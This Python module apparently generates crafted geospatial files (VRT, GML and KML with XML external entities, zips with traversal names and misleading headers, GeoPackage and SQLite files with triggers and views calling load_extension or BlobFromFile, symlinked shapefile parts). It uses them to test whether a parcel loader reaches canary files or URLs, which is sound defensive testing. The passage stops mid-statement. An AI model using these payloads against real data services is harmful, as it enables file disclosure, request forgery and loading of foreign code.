"""Parcel files that refer to other data: each writes its file and returns the path to name."""

from __future__ import annotations

import json
import os
import sqlite3
import struct
import warnings
import zipfile
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import geopandas as gpd
import pyarrow as pa
import shapely
from canary import Canary
from pyarrow import parquet
from rawzips import Entry, raw_zip
from shapely.geometry import mapping

Attack = Callable[[Path, Canary], Path]

LOTS = [shapely.box(-90 + i * 0.001, 35, -90 + i * 0.001 + 0.0008, 35.001) for i in range(3)]
OWN = ["OWN-1", "OWN-2", "OWN-3"]
ATTACKS: dict[str, Attack] = {}


def _attack(name: str) -> Callable[[Attack], Attack]:
    def add(attack: Attack) -> Attack:
        ATTACKS[name] = attack
        return attack

    return add


def frame() -> gpd.GeoDataFrame:
    """The file's own lots."""
    return gpd.GeoDataFrame({"APN": OWN}, geometry=LOTS, crs=4326)


def write(path: Path, crs: str = "EPSG:4326", **more: object) -> Path:
    """The file's own lots, in the format of the suffix."""
    path.parent.mkdir(exist_ok=True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        frame().to_crs(crs).to_file(path, **more)
    return path


def features() -> list[dict[str, Any]]:
    """The file's own lots as GeoJSON."""
    return [
        {"type": "Feature", "properties": {"APN": name}, "geometry": mapping(lot)}
        for name, lot in zip(OWN, LOTS, strict=True)
    ]


def ogr_vrt(there: str) -> str:
    return (
        '<OGRVRTDataSource><OGRVRTLayer name="canary"><GeometryType>wkbPolygon</GeometryType>'
        f"<SrcDataSource>{there}</SrcDataSource><SrcLayer>lots</SrcLayer></OGRVRTLayer></OGRVRTDataSource>"
    )


def _both(bait: Canary) -> tuple[str, str]:
    return str(bait.file("lots.geojson")), f"/vsicurl/{bait.url}/lots.geojson"


def _saved(path: Path, content: str | bytes) -> Path:
    path.parent.mkdir(exist_ok=True, parents=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


# Descriptions of data elsewhere, under every suffix that a parcel file may have.
SUFFIXES = [
    ".shp", ".gpkg", ".fgb", ".kml", ".gml", ".tab", ".mif", ".topojson", ".sqlite", ".geojson",
    ".geojsonl", ".json", ".esrijson", ".csv", ".txt", ".parquet", ".xml", ".vrt", ".ovf", ".gmt",
    ".bin", ".s57", ".000", ".dxf", ".gpx", ".osm", ".pbf", ".jml", ".vfk", ".ili", "",
]  # fmt: skip
DESCRIPTIONS: dict[str, Callable[[str, Canary], str]] = {
    "vrt": lambda there, _: ogr_vrt(there),
    "vrt behind a comment": lambda there, _: f"<!-- {' ' * 500} -->\n" + ogr_vrt(there),
    "vrt behind 20 kB": lambda there, _: f"<!-- {' ' * 20_000} -->\n" + ogr_vrt(there),
    "gdalg": lambda there, _: json.dumps(
        {
            "type": "gdal_streamed_alg",
            "command_line": f"gdal vector pipeline read {there} ! write x",
        }
    ),
    "wfs": lambda _, bait: f"<OGRWFSDataSource><URL>{bait.url}/wfs</URL></OGRWFSDataSource>",
    "wfs capabilities": lambda _, bait: (
        '<?xml version="1.0"?><wfs:WFS_Capabilities version="2.0.0" '
        'xmlns:wfs="http://www.opengis.net/wfs/2.0" xmlns:ows="http://www.opengis.net/ows/1.1" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"><ows:OperationsMetadata>'
        + "".join(
            f'<ows:Operation name="{name}"><ows:DCP><ows:HTTP>'
            f'<ows:Get xlink:href="{bait.url}/wfs?"/>'
            "</ows:HTTP></ows:DCP></ows:Operation>"
            for name in ("GetCapabilities", "DescribeFeatureType", "GetFeature")
        )
        + "</ows:OperationsMetadata><FeatureTypeList><FeatureType><Name>lots</Name>"
        "<DefaultCRS>urn:ogc:def:crs:EPSG::4326</DefaultCRS></FeatureType></FeatureTypeList>"
        "</wfs:WFS_Capabilities>"
    ),
    "csw": lambda _, bait: f"<OGRCSWDataSource><URL>{bait.url}/csw</URL></OGRCSWDataSource>",
    "oapif landing page": lambda _, bait: json.dumps(
        {
            "title": "x",
            "links": [
                {"rel": rel, "type": "application/json", "href": f"{bait.url}/{rel}"}
                for rel in ("self", "data", "conformance", "service-desc", "items")
            ],
            "conformsTo": ["http://www.opengis.net/spec/ogcapi-features-1/1.0/conf/core"],
        }
    ),
    "oapif collection": lambda _, bait: json.dumps(
        {
            "id": "lots", "title": "lots", "itemType": "feature",
            "extent": {"spatial": {"bbox": [[-91, 34, -89, 36]]}},
            "links": [
                {"rel": "items", "type": "application/geo+json", "href": f"{bait.url}/items"},
                {"rel": "self", "type": "application/json", "href": f"{bait.url}/collections/lots"},
            ],
        }
    ),
    "mapml": lambda _, bait: (
        f'<mapml-><map-head><map-link rel="next" href="{bait.url}/next"/></map-head>'
        "<map-body/></mapml->"
    ),
    "georss": lambda _, bait: (
        f'<rss version="2.0"><channel><link>{bait.url}/a</link></channel></rss>'
    ),
    "wms": lambda _, bait: (
        f'<GDAL_WMS><Service name="TMS"><ServerUrl>{bait.url}/</ServerUrl></Service></GDAL_WMS>'
    ),
    "stac": lambda there, bait: json.dumps(
        {
            "type": "FeatureCollection", "stac_version": "1.0.0",
            "features": [],
            "links": [{"rel": "next", "href": f"{bait.url}/next"}],
            "assets": {"a": {"href": there}},
        }
    ),
}  # fmt: skip


def _describe(kind: str, suffix: str, is_remote: bool, is_zipped: bool) -> Attack:
    def attack(folder: Path, bait: Canary) -> Path:
        content = DESCRIPTIONS[kind](_both(bait)[is_remote], bait)
        if not is_zipped:
            return _saved(folder / f"lots{suffix}", content)
        return _saved(folder / "lots.zip", raw_zip([Entry(f"in/lots{suffix}", content.encode())]))

    return attack


# Kept apart, as there are many: each description under each suffix, alone and in a zip.
DESCRIBED: dict[str, dict[str, Attack]] = {
    f"{kind}, {'zipped' if zipped else 'a file'}": {
        suffix: _describe(kind, suffix, number % 2 == 0, zipped)
        for number, suffix in enumerate(SUFFIXES)
    }
    for kind in DESCRIPTIONS
    for zipped in (False, True)
}


# Zips that lie.
def _own_geojson() -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": features()}).encode()


def _lying(name: str, make: Callable[[bytes], bytes]) -> None:
    for is_remote in (False, True):

        def attack(folder: Path, bait: Canary, is_remote: bool = is_remote) -> Path:
            vrt = ogr_vrt(_both(bait)[is_remote]).encode()
            return _saved(folder / "lots.zip", make(vrt))

        ATTACKS[f"zip: {name}, {'url' if is_remote else 'file'}"] = attack


for _name, _entry in {
    "encrypted flag": {"flags": 1},
    "encrypted flag in the directory": {"flags": 1, "local_flags": 0},
    "encrypted flag at the data": {"local_flags": 1},
    "strong encryption": {"flags": 0x41},
    "strong encryption at the data": {"local_flags": 0x41},
    "masked headers": {"flags": 0x2000},
    "patch data": {"flags": 0x20},
    "method 9": {"method": 9},
    "method 9 at the data": {"local_method": 9},
    "method 9 in the directory": {"method": 9, "local_method": 8},
    "method 99": {"method": 99, "local_method": 8},
    "stored at the data": {"local_method": 0},
    "method 12 at the data": {"local_method": 12},
    "another name at the data": {"local_name": "in/lots.txt"},
    "a link": {"mode": 0o120777},
    "a device": {"mode": 0o020666},
    "size of 0": {"size": 0},
    "size of 4 GB": {"size": 0xFFFFFFF0},
    "packed size of 0": {"packed_size": 0},
    "another extra name": {
        "extra": struct.pack("<HHBI", 0x7075, 5 + 12, 1, 0) + b"in/other.txt"
    },
    "zip64 sizes": {
        "extra": struct.pack("<HHQQ", 1, 16, 900, 900), "size": 0xFFFFFFFF,
    },
    "zip64 offset": {"extra": struct.pack("<HHQQQ", 1, 24, 900, 900, 0), "size": 0xFFFFFFFF},
}.items():  # fmt: skip
    for _suffix in (".gml", ".gpkg", ".shp", ".topojson"):
        _lying(
            f"{_name}, {_suffix}",
            lambda vrt, more=_entry, suffix=_suffix: raw_zip(
                [Entry(f"in/lots{suffix}", vrt, **more)]
            ),
        )
for _suffix in (".gml", ".kml", ".topojson"):
    _member = f"in/lots{_suffix}"
    _lying(
        f"one name twice, {_suffix}",
        lambda vrt, m=_member: raw_zip([Entry(m, _own_geojson()), Entry(m, vrt)]),
    )
    _lying(
        f"one name twice, the first, {_suffix}",
        lambda vrt, m=_member: raw_zip([Entry(m, vrt), Entry(m, _own_geojson())]),
    )
    _lying(
        f"names that differ in case, {_suffix}",
        lambda vrt, m=_member: raw_zip([Entry(m, _own_geojson()), Entry(m.upper(), vrt)]),
    )
    _lying(
        f"backslash and slash, {_suffix}",
        lambda vrt, m=_member: raw_zip(
            [Entry(m, _own_geojson()), Entry(m.replace("/", "\\"), vrt)]
        ),
    )
    _lying(
        f"dot and no dot, {_suffix}",
        lambda vrt, m=_member: raw_zip([Entry(m, _own_geojson()), Entry("./" + m, vrt)]),
    )
    _lying(
        f"NUL in the name, {_suffix}",
        lambda vrt, m=_member: raw_zip([Entry(m + "\0.txt", vrt)]),
    )
    _lying(
        f"behind other data, {_suffix}",
        lambda vrt, m=_member: raw_zip([Entry(m, vrt)], before=raw_zip([Entry(m, _own_geojson())])),
    )
    _lying(
        f"data before the directory, {_suffix}",
        lambda vrt, m=_member: raw_zip([Entry(m, vrt)], between=b"\0" * 100),
    )
    _lying(
        f"a zip in the comment, {_suffix}",
        lambda vrt, m=_member: raw_zip(
            [Entry(m, _own_geojson())], comment=raw_zip([Entry(m, vrt)])
        ),
    )
    _lying(
        f"an end in the comment, {_suffix}",
        lambda vrt, m=_member: raw_zip([Entry(m, vrt)], comment=b"PK\5\6" + b"\0" * 18),
    )
    _lying(
        f"not in the directory, {_suffix}",
        lambda vrt, m=_member: raw_zip([Entry(m, vrt), Entry("in/a.txt", b"")], central_only=(1,)),
    )
for _member in (
    "/in/lots.gml", "../lots.gml", "in/../../lots.gml", "C:\\lots.gml", "\\\\h\\lots.gml",
    "in\\lots.gml", "a.zip/lots.gml", "in/lots.gml/", "{a}/lots.gml",
):  # fmt: skip
    _lying(f"name {_member}", lambda vrt, m=_member: raw_zip([Entry(m, vrt)]))
_lying(
    "zip in a zip",
    lambda vrt: raw_zip([Entry("lots.zip", raw_zip([Entry("lots.gml", vrt)]), method=0)]),
)
_lying(
    "zip in a zip, as .gml",
    lambda vrt: raw_zip([Entry("lots.gml", raw_zip([Entry("lots.gml", vrt)]), method=0)]),
)


# GeoJSON and its relatives.
def _crs_link(bait: Canary, kind: str) -> dict[str, Any]:
    href = f"{bait.url}/crs"
    local = str(bait.file("crs.prj", 'GEOGCS["CANARY-7F3A",DATUM["d",SPHEROID["s",1,0]]]'))
    return {
        "link": {"type": "link", "properties": {"href": href, "type": "proj4"}},
        "link to a file": {"type": "link", "properties": {"href": local, "type": "esriwkt"}},
        "url": {"type": "url", "properties": {"url": href}},
        "url to a file": {"type": "url", "properties": {"url": f"file://{local}"}},
        "name of a url": {"type": "name", "properties": {"name": href}},
        "name of a file": {"type": "name", "properties": {"name": local}},
        "name with init": {"type": "name", "properties": {"name": f"+init={local}:1"}},
        "OGC": {"type": "OGC", "properties": {"urn": href}},
    }[kind]


def _json_crs(name: str, kind: str, more: dict[str, Any]) -> None:
    def attack(folder: Path, bait: Canary) -> Path:
        content = {
            "type": "FeatureCollection", **more, "crs": _crs_link(bait, kind),
            "features": features(),
        }  # fmt: skip
        return _saved(folder / name, json.dumps(content))

    ATTACKS[f"{name}{' ' + next(iter(more)) if more else ''}: crs {kind}"] = attack


for _kind in (
    "link", "link to a file", "url", "url to a file", "name of a url", "name of a file",
    "name with init", "OGC",
):  # fmt: skip
    for _file in ("lots.geojson", "lots.json", "lots.topojson", "lots.gml", "lots"):
        _json_crs(_file, _kind, {})
    _json_crs("lots.geojson", _kind, {"conformsTo": ["[ogc-json-fg-1-0.1:core]"]})
    _json_crs("lots.geojson", _kind, {"objects": {}, "arcs": [], "title": '"type":"Topology"'})

    def _topology(folder: Path, bait: Canary, kind: str = _kind) -> Path:
        ring = [[-90, 35], [-90, 35.001], [-89.999, 35.001], [-89.999, 35], [-90, 35]]
        lot = {"type": "Polygon", "arcs": [[0]], "properties": {"APN": "OWN-1"}}
        content = {
            "type": "Topology", "crs": _crs_link(bait, kind), "arcs": [ring],
            "objects": {"lots": {"type": "GeometryCollection", "geometries": [lot],
                                 "crs": _crs_link(bait, kind)}},
        }  # fmt: skip
        return _saved(folder / "lots.topojson", json.dumps(content))

    ATTACKS[f"topology: crs {_kind}"] = _topology


@_attack("JSON-FG: coordRefSys")
def _(folder: Path, bait: Canary) -> Path:
    content = {
        "type": "FeatureCollection", "conformsTo": ["http://www.opengis.net/spec/json-fg-1/0.2/"
        "conf/core"], "coordRefSys": f"{bait.url}/crs", "features": features(),
        "featureSchema": f"{bait.url}/schema",
    }  # fmt: skip
    return _saved(folder / "lots.geojson", json.dumps(content))


@_attack("Esri JSON: a wkt that names a grid")
def _(folder: Path, bait: Canary) -> Path:
    grid = bait.file("grid.gsb", b"\0" * 500)
    ring = [list(point) for point in LOTS[0].exterior.coords]
    content = {
        "geometryType": "esriGeometryPolygon", "spatialReference": {"wkt": _wkt_with_grid(grid)},
        "features": [{"attributes": {"APN": "OWN-1"}, "geometry": {"rings": [ring]}}],
    }  # fmt: skip
    return _saved(folder / "lots.json", json.dumps(content))


def _wkt_with_grid(grid: object) -> str:
    return (
        'GEOGCS["x",DATUM["x",SPHEROID["Clarke 1866",6378206.4,294.98],EXTENSION["PROJ4_GRIDS",'
        f'"{grid}"]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]]'
    )


def _wkt_with_proj4(grid: object) -> str:
    return (
        'PROJCS["x",GEOGCS["x",DATUM["x",SPHEROID["Clarke 1866",6378206.4,294.98]],'
        'PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]],PROJECTION["custom_proj4"],UNIT["metre",1],'
        f'EXTENSION["PROJ4","+proj=longlat +ellps=clrk66 +nadgrids={grid} +wktext"]]'
    )


def _bound_crs(grid: object) -> str:
    return (
        'BOUNDCRS[SOURCECRS[GEOGCRS["x",DATUM["x",ELLIPSOID["Clarke 1866",6378206.4,294.98]],'
        'CS[ellipsoidal,2],AXIS["lat",north],AXIS["lon",east],ANGLEUNIT["degree",0.0174532925199433'
        ']]],TARGETCRS[GEOGCRS["WGS 84",DATUM["World Geodetic System 1984",ELLIPSOID["WGS 84",'
        '6378137,298.257223563]],CS[ellipsoidal,2],AXIS["lat",north],AXIS["lon",east],ANGLEUNIT['
        '"degree",0.0174532925199433]]],ABRIDGEDTRANSFORMATION["x",METHOD["NTv2",ID["EPSG",9615]],'
        f'PARAMETERFILE["Latitude and longitude difference file","{grid}"]]]'
    )


WKTS = {"PROJ4_GRIDS": _wkt_with_grid, "PROJ4": _wkt_with_proj4, "bound": _bound_crs}


def _with_prj(kind: str, is_remote: bool) -> Attack:
    def attack(folder: Path, bait: Canary) -> Path:
        path = write(folder / "lots.shp")
        grid = f"{bait.url}/g.tif" if is_remote else bait.file("grid.gsb", b"\0" * 500)
        path.with_suffix(".prj").write_text(WKTS[kind](grid))
        return path

    return attack


def _parquet_crs(folder: Path, crs: object, **more: object) -> Path:
    table = pa.table({"APN": OWN, "geometry": [shapely.to_wkb(lot) for lot in LOTS]})
    geo = {
        "version": "1.1.0", "primary_column": "geometry",
        "columns": {"geometry": {"encoding": "WKB", "geometry_types": [], "crs": crs, **more}},
    }  # fmt: skip
    path = folder / "lots.parquet"
    parquet.write_table(table.replace_schema_metadata({"geo": json.dumps(geo)}), path)
    return path


def _in_parquet(kind: str) -> Attack:
    def attack(folder: Path, bait: Canary) -> Path:
        return _parquet_crs(folder, WKTS[kind](bait.file("grid.gsb", b"\0" * 500)))

    return attack


for _kind in WKTS:
    ATTACKS[f"shapefile: .prj with {_kind}"] = _with_prj(_kind, is_remote=False)
    ATTACKS[f"shapefile: .prj with {_kind}, url"] = _with_prj(_kind, is_remote=True)
    ATTACKS[f"GeoParquet: crs with {_kind}"] = _in_parquet(_kind)


@_attack("GeoParquet: crs as PROJJSON that names a grid")
def _(folder: Path, bait: Canary) -> Path:
    from pyproj import CRS

    grid = bait.file("grid.gsb", b"\0" * 500)
    return _parquet_crs(folder, CRS.from_wkt(_bound_crs(grid)).to_json_dict())


for _crs in ("{folder}/crs.prj", "{url}/crs", "@{folder}/crs.prj", "+init={folder}/crs:1",
             "file://{folder}/crs.prj"):  # fmt: skip

    def _named(folder: Path, bait: Canary, crs: str = _crs) -> Path:
        bait.file("crs.prj", 'GEOGCS["CANARY-7F3A",DATUM["d",SPHEROID["s",1,0]]]')
        return _parquet_crs(folder, crs.format(folder=bait.folder, url=bait.url))

    ATTACKS[f"GeoParquet: crs {_crs}"] = _named


# CRSs inside binary formats, replaced by a text of the same length.
def _replaced_crs(suffix: str, text: str, **options: Any) -> Attack:
    def attack(folder: Path, bait: Canary) -> Path:
        path = write(folder / f"lots{suffix}", crs="EPSG:26915", **options)
        there = bait.file("g", b"CANARY-7F3A" * 40)
        files = path.rglob("*") if path.is_dir() else [path]
        for file in files:
            content = file.read_bytes()
            for encoding in ("utf-8", "utf-16-le"):
                for start in ("PROJCS[", "PROJCRS[", "PROJCRS ["):
                    at = content.find(start.encode(encoding))
                    while at >= 0:
                        new = text.format(there=there).encode(encoding)
                        content = content[:at] + new + content[at + len(new) :]
                        at = content.find(start.encode(encoding), at + 1)
            file.write_bytes(content)
        return path

    return attack


for _suffix, _options in {
    ".fgb": {}, ".gpkg": {}, ".gdb": {"driver": "OpenFileGDB"}, ".sqlite": {"driver": "SQLite"},
}.items():  # fmt: skip
    for _text in (
        "+init={there}:1 ", "{there} ", "+proj=utm +zone=15 +nadgrids={there} ",
        'EXTENSION["PROJ4_GRIDS","{there}"] ', "file://{there} ",
    ):  # fmt: skip
        ATTACKS[f"{_suffix}: a CRS of {_text}"] = _replaced_crs(_suffix, _text, **_options)


# Shapefiles whose parts are links, or that have unusual siblings.
for _suffix in (".dbf", ".prj", ".cpg", ".shx", ".qix", ".sbn", ".idm", ".shp.xml", ".aux.xml"):
    for _fifo in (False, True):

        def _linked(folder: Path, bait: Canary, suffix: str = _suffix, fifo: bool = _fifo) -> Path:
            path = write(folder / "lots.shp")
            part = path.with_suffix(suffix)
            content = part.read_bytes() if part.exists() else b"CANARY-7F3A"
            if suffix == ".dbf":
                content = content.replace(b"OWN-1", b"CANAR")
            part.unlink(missing_ok=True)
            if fifo:
                os.mkfifo(part)
            else:
                part.symlink_to(bait.file(f"x{suffix}", content))
            return path

        ATTACKS[f"shapefile: {_suffix} is a {'pipe' if _fifo else 'link'}"] = _linked
        if not _fifo:

            def _in_folder(folder: Path, bait: Canary, linked: Attack = _linked) -> Path:
                return linked(folder / "in", bait).parent

            ATTACKS[f"folder with a shapefile: {_suffix} is a link"] = _in_folder

for _name in ("lots.geojson", "lots.gpkg", "lots.csv", "lots.parquet", "lots.shp", "lots.kml"):

    def _link_in_folder(folder: Path, bait: Canary, name: str = _name) -> Path:
        inside = folder / "in"
        inside.mkdir()
        kept = bait.folder / name
        if name.endswith((".gpkg", ".shp", ".kml")):
            write(kept)
        elif name.endswith(".parquet"):
            frame().to_parquet(kept)
        else:
            kept.write_text(bait.file("lots.geojson").read_text())
        for part in bait.folder.glob("lots.*"):
            (inside / part.name).symlink_to(part)
        _ = bait.touched
        bait.forget()
        return inside

    ATTACKS[f"folder with a link to {_name}"] = _link_in_folder


# XML.
GML = (
    '<?xml version="1.0"?>{doctype}<wfs:FeatureCollection xmlns:gml="http://www.opengis.net/gml" '
    'xmlns:wfs="http://www.opengis.net/wfs" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" {attributes}>'
    "<gml:featureMember><lots><APN>{apn}</APN><geometry>{geometry}</geometry></lots>"
    "</gml:featureMember></wfs:FeatureCollection>"
)
POLYGON = (
    "<gml:Polygon{srs}><gml:outerBoundaryIs><gml:LinearRing><gml:coordinates>-90,35 -90,35.001 "
    "-89.999,35.001 -89.999,35 -90,35</gml:coordinates></gml:LinearRing></gml:outerBoundaryIs>"
    "</gml:Polygon>"
)
SCHEMA = 'xsi:schemaLocation="http://x {there}"'


def _gml(name: str, make: Callable[[Canary], dict[str, str]], file: str = "lots.gml") -> None:
    def attack(folder: Path, bait: Canary) -> Path:
        parts = {
            "doctype": "",
            "attributes": "",
            "apn": "OWN-1",
            "geometry": POLYGON.format(srs=""),
        }
        return _saved(folder / file, GML.format(**{**parts, **make(bait)}))

    ATTACKS[f"GML: {name}"] = attack


_gml("schema of a server", lambda b: {"attributes": SCHEMA.format(there=f"{b.url}/lots.xsd")})
_gml(
    "schema of a WFS",
    lambda b: {
        "attributes": SCHEMA.format(
            there=f"{b.url}/wfs?SERVICE=WFS&amp;VERSION=1.1.0&amp;REQUEST=DescribeFeatureType&amp;"
            "TYPENAME=lots http://www.opengis.net/wfs x.xsd"
        )
    },
)
_gml("schema in a file", lambda b: {"attributes": SCHEMA.format(there=b.file("lots.xsd"))})
_gml("srsName of a url", lambda b: {"geometry": POLYGON.format(srs=f' srsName="{b.url}/4326"')})
_gml(
    "srsName of a file",
    lambda b: {"geometry": POLYGON.format(srs=f' srsName="{b.file("crs.prj", "x")}"')},
)
_gml(
    "srsName with init",
    lambda b: {"geometry": POLYGON.format(srs=f' srsName="+init={b.file("crs", "x")}:1"')},
)
_gml("xlink to a url", lambda b: {"geometry": f'<gml:Polygon xlink:href="{b.url}/a.gml#a"/>'})
_gml(
    "xlink to a file",
    lambda b: {"geometry": f'<gml:Polygon xlink:href="{b.file("a.gml", "<a/>")}#a"/>'},
)
_gml(
    "entity of a file",
    lambda b: {
        "doctype": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{b.file("a.txt", "CANARY-7F3A")}">]>',
        "apn": "&x;",
    },
)
_gml(
    "entity of a url",
    lambda b: {"doctype": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{b.url}/x">]>', "apn": "&x;"},
)
_gml("DTD of a url", lambda b: {"doctype": f'<!DOCTYPE a SYSTEM "{b.url}/x.dtd">'})
_gml("as .kml", lambda b: {"attributes": SCHEMA.format(there=f"{b.url}/a.xsd")}, "lots.kml")
_gml("as .xml", lambda b: {"attributes": SCHEMA.format(there=f"{b.url}/a.xsd")}, "lots.xml")

for _suffix in (".gfs", ".xsd"):

    def _beside_gml(folder: Path, bait: Canary, suffix: str = _suffix) -> Path:
        path = _saved(
            folder / "lots.gml",
            GML.format(doctype="", attributes="", apn="OWN-1", geometry=POLYGON.format(srs="")),
        )
        path.with_suffix(suffix).symlink_to(bait.file(f"lots{suffix}", "<GMLFeatureClassList/>"))
        return path

    ATTACKS[f"GML: {_suffix} is a link"] = _beside_gml


KML = (
    '<?xml version="1.0"?>{doctype}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{more}'
    "<Placemark><name>OWN-1</name>{inside}<Polygon><outerBoundaryIs><LinearRing><coordinates>"
    "-90,35 -90,35.001 -89.999,35.001 -89.999,35 -90,35</coordinates></LinearRing>"
    "</outerBoundaryIs></Polygon></Placemark></Document></kml>"
)


def _kml(name: str, make: Callable[[Canary], dict[str, str]]) -> None:
    def attack(folder: Path, bait: Canary) -> Path:
        parts = {"doctype": "", "more": "", "inside": ""}
        return _saved(folder / "lots.kml", KML.format(**{**parts, **make(bait)}))

    ATTACKS[f"KML: {name}"] = attack


def _link(there: object) -> str:
    return f"<NetworkLink><name>a</name><Link><href>{there}</href></Link></NetworkLink>"


_kml("NetworkLink to a url", lambda b: {"more": _link(f"{b.url}/lots.kml")})
_kml("NetworkLink to a file", lambda b: {"more": _link(b.file("lots.kml", "<kml/>"))})
_kml("styleUrl", lambda b: {"inside": f"<styleUrl>{b.url}/a.kml#a</styleUrl>"})
_kml("Schema", lambda b: {
    "inside": f'<ExtendedData><SchemaData schemaUrl="{b.url}/a.kml#a"><SimpleData name="a">b'
    "</SimpleData></SchemaData></ExtendedData>"
})  # fmt: skip
_kml(
    "entity of a file",
    lambda b: {
        "doctype": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{b.file("a.txt", "CANARY-7F3A")}">]>',
        "inside": "<description>&x;</description>",
    },
)
_kml("ground overlay", lambda b: {
    "more": f"<GroundOverlay><Icon><href>{b.url}/a.png</href></Icon></GroundOverlay>"
})  # fmt: skip


# Databases.
def _sql(name: str, statements: Callable[[str, str], list[str]], suffix: str = ".gpkg") -> None:
    for is_remote in (False, True):

        def attack(folder: Path, bait: Canary, is_remote: bool = is_remote) -> Path:
            driver = {"driver": "SQLite"} if suffix == ".sqlite" else {}
            path = write(folder / f"lots{suffix}", layer="lots", **driver)
            there = _both(bait)[is_remote]
            with closing(sqlite3.connect(path)) as database:
                database.execute("PRAGMA writable_schema = ON")
                for statement in statements(there, bait.url):
                    database.execute(statement)
                database.commit()
            return path

        ATTACKS[f"{suffix}: {name}, {'url' if is_remote else 'file'}"] = attack


def _schema(kind: str, name: str, sql: str) -> str:
    quoted = sql.replace("'", "''")
    return (
        f"INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) "
        f"VALUES ('{kind}', '{name}', '{name}', 0, '{quoted}')"
    )


_CONTENTS = (
    "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
    "VALUES ('canary', 'features', 'canary', 4326)"
)
_COLUMNS = "INSERT INTO gpkg_geometry_columns VALUES ('canary', 'geom', 'POLYGON', 4326, 0, 0)"
_FUNCTIONS = {
    "datasource": "ogr_datasource_load_layers('{there}')",
    "geocode": "ogr_geocode('x')",
    "set config": "ogr_SetConfigOption('OGR_SQLITE_ALLOW_EXTERNAL_ACCESS','YES')",
    "load extension": "load_extension('{there}')",
    "blob from file": "BlobFromFile('{there}')",
    "XB": "XB_LoadXML('{there}')",
    "import": "ImportGeoJSON('{there}', 'x')",
    "gdal": "gdal_get_pixel_value('{there}', 1, 'pixel', 0, 0)",
    "a schema": "XB_Create(x'3c612f3e', 0, '{there}')",
    "a comment in a text": "'--', XB_SchemaValidate(x'3c612f3e', '{there}', 0)",
    "quotes": "\"load_extension\" ('{there}')",
    "a PROJ text": "AsText(ST_Transform(MakePoint(1, 2, 4326), 4326, NULL, '+proj=hgridshift "
    "+grids={there}'))",
}
for _suffix in (".gpkg", ".sqlite"):
    for _module in ("VirtualOGR", "VirtualShape", "VirtualText", "VirtualGeoJSON", "VirtualDbf"):
        _sql(
            f"virtual table {_module}",
            lambda there, _, m=_module, s=_suffix: [
                _schema("table", "canary", f"CREATE VIRTUAL TABLE canary USING {m}('{there}', 0)"),
                *((_CONTENTS, _COLUMNS) if s == ".gpkg" else ()),
            ],
            _suffix,
        )
    for _name, _call in _FUNCTIONS.items():
        _sql(
            f"view with {_name}",
            lambda there, _, c=_call: [
                "ALTER TABLE lots RENAME TO hidden",
                f"CREATE VIEW lots AS SELECT *, {c.format(there=there)} AS x FROM hidden",
            ],
            _suffix,
        )
for _name, _call in _FUNCTIONS.items():
    _sql(
        f"trigger with {_name}",
        lambda there, _, c=_call: [
            f"CREATE TRIGGER canary AFTER INSERT ON lots BEGIN SELECT {c.format(there=there)}; END"
        ],
    )
_sql(
    "a generated column",
    lambda there, _: [
        f"ALTER TABLE lots ADD COLUMN x TEXT AS (XB_Create(x'3c612f3e', 0, '{there}'))"
    ],
)
_sql(
    "a CRS that names a grid",
    lambda there, _: [
        f"UPDATE gpkg_spatial_ref_sys SET definition = '{_wkt_with_grid(there)}', organization = "
        "'x' WHERE srs_id = 4326"
    ],
)
_sql(
    "a CRS that is a path",
    lambda there, _: [
        f"UPDATE gpkg_spatial_ref_sys SET definition = '{there}', organization = 'x', "
        "organization_coordsys_id = 77 WHERE srs_id = 4326"
    ],
)

for _name in ("-wal", "-journal", "-shm", ".aux.xml"):

    def _beside_gpkg(folder: Path, bait: Canary, ending: str = _name) -> Path:
        path = write(folder / "lots.gpkg")
        Path(f"{path}{ending}").symlink_to(bait.file(f"x{ending}", b"\0" * 4096))
        return path

    ATTACKS[f"GeoPackage: {_name} is a link"] = _beside_gpkg


# MapInfo.
def _tab(name: str, content: Callable[[Path, Canary], str]) -> None:
    def attack(folder: Path, bait: Canary) -> Path:
        return _saved(folder / "lots.tab", content(folder, bait))

    ATTACKS[f"MapInfo: {name}"] = attack


def _mapinfo(bait: Canary) -> Path:
    path = bait.folder / "t.tab"
    if not path.exists():
        write(path, driver="MapInfo File")
    bait.forget()
    return path


_tab("view", lambda _, b: (
    f'!table\n!version 100\nOpen Table "{_mapinfo(b)}" Hide\n\nCreate View lots As\nSelect APN\n'
    f'From {_mapinfo(b).stem}\n'
))  # fmt: skip
_tab("linked", lambda _, b: (
    f'!table\n!version 500\nDefinition Table\n  Type LINKED Charset "Neutral"\n  Fields 1\n'
    f'    APN Char (9) ;\nbegin_metadata\n"\\CACHE" = "{b.url}"\nend_metadata\n'
))  # fmt: skip
_tab("dbf elsewhere", lambda _, b: (
    f'!table\n!version 300\nDefinition Table\n  File "{_mapinfo(b)}"\n  Type DBF Charset '
    '"WindowsLatin1"\n  Fields 1\n    APN Char (9) ;\n'
))  # fmt: skip


def _seamless(folder: Path, bait: Canary) -> Path:
    kept = _mapinfo(bait)
    index = gpd.GeoDataFrame(
        {"Table": [str(kept)], "Description": ["a"]}, geometry=LOTS[:1], crs=4326
    )
    index.to_file(folder / "lots.tab", driver="MapInfo File")
    text = (folder / "lots.tab").read_text(encoding="latin-1")
    text += 'begin_metadata\n"\\IsSeamless" = "TRUE"\nend_metadata\n'
    (folder / "lots.tab").write_text(text, encoding="latin-1")
    bait.forget()
    return folder / "lots.tab"


ATTACKS["MapInfo: seamless"] = _seamless
for _suffix in (".dat", ".map", ".id", ".ind"):

    def _tab_linked(folder: Path, bait: Canary, suffix: str = _suffix) -> Path:
        path = write(folder / "lots.tab", driver="MapInfo File")
        part = next((p for p in folder.iterdir() if p.suffix.lower() == suffix), None)
        content = part.read_bytes() if part else b"x"
        if part:
            part.unlink()
        path.with_suffix(suffix).symlink_to(
